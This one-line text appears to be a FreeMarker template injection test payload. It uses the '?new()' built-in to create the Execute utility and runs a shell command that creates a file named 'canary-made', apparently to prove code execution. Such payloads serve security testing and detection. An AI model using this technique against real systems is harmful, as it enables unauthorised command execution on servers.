${'"freemarker.template.utility.Execute"?new()("touch canary-made")'?eval}
